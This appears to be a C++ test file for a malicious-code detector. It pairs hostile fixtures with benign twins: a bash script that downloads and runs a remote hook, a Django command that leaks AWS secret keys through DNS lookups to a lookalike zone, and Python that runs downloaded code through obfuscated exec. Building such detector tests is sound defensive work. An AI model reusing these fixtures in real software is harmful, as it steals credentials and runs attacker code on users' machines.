// The classes the fortieth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog44_MANIFEST.tsv): finance and trading tooling, hardware
// labs, web application backends, personal productivity scripts, and code
// that looks obfuscated. Its aside scored 28/30 before any change; the
// classes below came from its tune part (67/70 before). Strings here are
// never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A shell function that prints one of several candidate paths is likely to
// print the first known one, even when another candidate it may print
// carries labels (a board name from an option): a hook from a downloaded
// bundle found that way and run is remote code.
TEST(FortiethRoundClasses, TheLikelyOutputOfAFunctionWithLabelledCandidates) {
  const Case cases[] = {
      {"a downloaded hook found among candidates and run", B,
       "#!/bin/bash\nBOARD=\"\"\nwhile getopts \"b:\" opt; do case \"$opt\" in b) BOARD=\"$OPTARG\" ;; esac; done\n"
       "mkdir -p ./.hooks ./stage\n"
       "curl -fsSL -o ./stage/h.tar.gz \"http://198.51.100.23/hooks.tar.gz\"\n"
       "tar -xzf ./stage/h.tar.gz -C ./.hooks\n"
       "hook_for() {\n  for cand in \"./.hooks/${BOARD}/$1.sh\" \"./.hooks/common/$1.sh\"; do\n"
       "    if [ -f \"$cand\" ]; then echo \"$cand\"; return 0; fi\n  done\n  return 1\n}\n"
       "script=$(hook_for post)\n\"$script\"\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"a local hook found among candidates and run", L,
       "#!/bin/bash\nBOARD=\"\"\nwhile getopts \"b:\" opt; do case \"$opt\" in b) BOARD=\"$OPTARG\" ;; esac; done\n"
       "hook_for() {\n  for cand in \"./hooks/${BOARD}/$1.sh\" \"./hooks/common/$1.sh\"; do\n"
       "    if [ -f \"$cand\" ]; then echo \"$cand\"; return 0; fi\n  done\n  return 1\n}\n"
       "script=$(hook_for post)\n\"$script\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// A Django management command runs as manage.py runs it: add_arguments(parser)
// and then handle(**options) with each option's default (or what the user
// types), so a zone given as an option's default is known.
TEST(FortiethRoundClasses, DjangoManagementCommandsGetTheirOptions) {
  const Case cases[] = {
      {"AWS keys as DNS labels under a zone given as an option's default", B,
       "import base64, configparser, socket\nfrom pathlib import Path\n"
       "from django.core.management.base import BaseCommand\n"
       "class Command(BaseCommand):\n"
       "    def add_arguments(self, parser):\n"
       "        parser.add_argument('--zone', default='probe.metrics-cdn.net')\n"
       "    def handle(self, *args, **opts):\n"
       "        cp = configparser.ConfigParser()\n"
       "        cp.read(Path.home() / '.aws' / 'credentials')\n"
       "        secret = cp.get('default', 'aws_secret_access_key', fallback='')\n"
       "        label = base64.b32encode(secret.encode()).decode().rstrip('=').lower()\n"
       "        socket.getaddrinfo(f\"{label[:60]}.{opts['zone']}\", None)\n",
       "EXFILTRATION"},
      {"a resolver check of names under a zone given as an option's default", L,
       "import socket\nfrom django.core.management.base import BaseCommand\n"
       "class Command(BaseCommand):\n"
       "    def add_arguments(self, parser):\n"
       "        parser.add_argument('--zone', default='example.org')\n"
       "    def handle(self, *args, **opts):\n"
       "        for host in ('www', 'api'):\n"
       "            socket.getaddrinfo(f\"{host}.{opts['zone']}\", 443)\n"},
  };
  for (const auto& c : cases) check(c);
}

// obj[key] on an instance of the code's own class calls its __getitem__:
// builtins' exec found by a name joined from fragments through it runs
// what was downloaded.
TEST(FortiethRoundClasses, SubscriptCallsGetitem) {
  const Case cases[] = {
      {"exec looked up through __getitem__, on downloaded code", B,
       "import importlib, urllib.request\n"
       "class Hooks:\n"
       "    _parts = ('bui', 'ltins'), ('ex', 'ec')\n"
       "    def __init__(self):\n"
       "        self._rt = importlib.import_module(''.join(self._parts[0]))\n"
       "    def __getitem__(self, idx):\n"
       "        return getattr(self._rt, ''.join(self._parts[idx]))\n"
       "src = urllib.request.urlopen('https://cdn.example.net/p').read().decode()\n"
       "Hooks()[1](src, {})\n",
       "REMOTE-CODE-EXECUTION"},
      {"a table's entries looked up through __getitem__", L,
       "class Table:\n"
       "    def __init__(self):\n"
       "        self._rows = {'a': 1, 'b': 2}\n"
       "    def __getitem__(self, key):\n"
       "        return self._rows[key]\n"
       "print(Table()['a'] + 1)\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
